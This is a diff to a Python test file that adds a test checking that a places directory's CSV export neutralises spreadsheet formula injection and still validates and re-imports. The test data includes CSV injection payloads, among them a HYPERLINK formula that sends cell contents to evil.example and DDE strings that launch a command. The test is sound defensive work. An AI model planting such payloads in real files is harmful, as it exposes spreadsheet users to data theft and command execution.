@@ -3,6 +3,8 @@ schema with frictionless, and bad files that change nothing."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import shutil
 import subprocess
@@ -114,6 +116,51 @@ def test_the_schema_example_imports_and_exports_back_valid(client, tmp_path):
     assert frictionless_validate(path).returncode == 0
 
 
+def test_the_export_never_carries_a_live_formula_and_stays_valid(client, tmp_path):
+    # Free text typed as a formula arrives in a spreadsheet as text ('…), within the
+    # schema's limits; a phone number in the schema's own format (+33…) is a number and
+    # stays as it is. The file still validates, and our own import reads it back.
+    call_command("import_lieux", str(EXAMPLE), verbosity=0)
+    hostile = {
+        "nom": '=HYPERLINK("https://evil.example/?"&A1;"Cliquez ici")',
+        "commune": "+cmd|' /C calc'!A0",
+        "adresse": "-2+3+cmd|' /C calc'!A0",
+        "complement_adresse": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "presentation_resume": "- " + "x" * 278,  # 280 characters: the schema's maximum
+        "presentation_detail": "\t=1+1",
+        "source": "\r=1+1",
+        "structure_parente": "=cmd|' /C calc'!A0",
+        "autres_formations_labels": "+Label",
+        "telephone": "+33563000000",
+    }
+    Place.objects.update(**hostile)
+    path = tmp_path / "lieux.csv"
+    path.write_bytes(b"".join(client.get(reverse("geodirectory:export_csv")).streaming_content))
+    result = frictionless_validate(path)
+    assert result.returncode == 0, result.stdout[-3000:]
+    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
+    assert rows
+    for row in rows:
+        for name in SCHEMA_FIELDS:
+            if name != "telephone":
+                assert row[name][:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, row[name])
+        assert row["telephone"] == "+33563000000"
+        assert row["nom"] == "'" + hostile["nom"]
+        assert row["presentation_detail"] == "'\t=1+1"
+        # The quote would make 281 characters: the end gives way to "…".
+        assert row["presentation_resume"] == "'- " + "x" * 276 + "…"
+    Place.objects.update(nom="autre", commune="autre", adresse="autre")
+    import_rows(read_file(path))
+    for place in Place.objects.all():
+        assert place.nom == hostile["nom"]
+        assert place.commune == hostile["commune"]
+        assert place.adresse == hostile["adresse"]
+        assert place.complement_adresse == hostile["complement_adresse"]
+        assert place.structure_parente == hostile["structure_parente"]
+        assert place.presentation_resume == "- " + "x" * 276 + "…"
+        assert place.telephone == "+33563000000"
+
+
 def test_unpublished_places_are_not_exported(client):
     call_command("import_lieux", str(EXAMPLE), verbosity=0)
     Place.objects.update(is_published=False)
@@ -125,9 +172,6 @@ def test_unpublished_places_are_not_exported(client):
 
 
 def write_csv(tmp_path: Path, rows: list[dict], encoding: str = "utf-8") -> Path:
-    import csv
-    import io
-
     buffer = io.StringIO()
     fields = list(rows[0])
     writer = csv.DictWriter(buffer, fieldnames=fields)
